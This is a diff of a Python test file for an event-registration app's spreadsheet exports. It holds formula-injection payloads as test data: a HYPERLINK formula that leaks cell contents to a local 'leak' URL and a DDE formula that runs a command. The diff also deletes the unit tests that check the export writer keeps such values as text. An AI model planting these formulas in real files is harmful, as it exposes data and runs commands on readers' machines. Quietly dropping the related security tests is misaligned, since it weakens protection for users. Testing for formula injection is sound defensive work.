@@ -18,13 +18,11 @@ import openpyxl
 import pytest
 from sqlalchemy import select
 
-from summit.core import spreadsheet
 from tests.fixtures.registration import resident_id
 
 LINK = '=HYPERLINK("http://127.0.0.1:5999/leak?"&A1,"Open CV")'
 SUM = "=2+3"
 CMD = "=cmd|' /C calc'!A0"
-OTHERS = ["+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
 
 
 def formula_cells(data: bytes) -> list[str]:
@@ -117,7 +115,6 @@ def planted(app, db, client):
         if comment_sent:
             break
     assert comment_sent, "the demo judge had nothing left to score"
-    # 5. More formula starts on text an organizer cannot vet: the other fields of the attendee.
     db.session.rollback()
     return {"summit": summit, "session_id": booked, "token": token}
 
@@ -189,34 +186,6 @@ def test_no_export_writes_a_formula(app, db, planted, tmp_path, database_url):
     # The CSV exports neutralise what they hold: the planted name is there, as text.
     csv_rows = list(csv.reader(io.StringIO(exports["registration.admin_export"][1][1].decode("utf-8-sig"))))
     assert ["'" + LINK, "'" + SUM, "'" + CMD] == next(r[1:4] for r in csv_rows if LINK in r[1])
-
-
-@pytest.mark.parametrize("value", [LINK, SUM, CMD] + OTHERS)
-def test_the_writer_keeps_formula_like_text_as_text(value):
-    """Unit level: the value itself is kept (quote-prefixed in .xlsx, apostrophe in CSV)."""
-    data = spreadsheet.table_xlsx(["a"], [[value, 1, None]])
-    cell = openpyxl.load_workbook(io.BytesIO(data)).active["A2"]
-    # (XML reads a stored CR back as a line feed.)
-    assert cell.data_type == "s" and cell.value == value.replace("\r", "\n") and cell.quotePrefix
-    assert spreadsheet.csv_value(value) == "'" + value
-
-
-def test_the_writer_turns_a_formula_written_around_it_into_text():
-    """A cell set directly (not through append) is swept before saving."""
-    book = spreadsheet.new_workbook()
-    sheet = spreadsheet.add_sheet(book, "a/b:c")
-    sheet["B3"] = LINK
-    sheet["C3"] = "plain"
-    book = openpyxl.load_workbook(io.BytesIO(spreadsheet.xlsx_bytes(book)))
-    assert book.sheetnames == ["a b c"]
-    assert book.active["B3"].data_type == "s" and book.active["B3"].value == LINK and not formula_cells(
-        spreadsheet.xlsx_bytes(book))
-
-
-def test_the_writer_drops_characters_xlsx_cannot_hold():
-    data = spreadsheet.table_xlsx(["a"], [["bell\x07 name", ["x", "y"], True]])
-    row = [c.value for c in openpyxl.load_workbook(io.BytesIO(data)).active[2]]
-    assert row == ["bell name", "x、y", True]
 
 
 def test_only_the_core_module_writes_or_reads_spreadsheets():
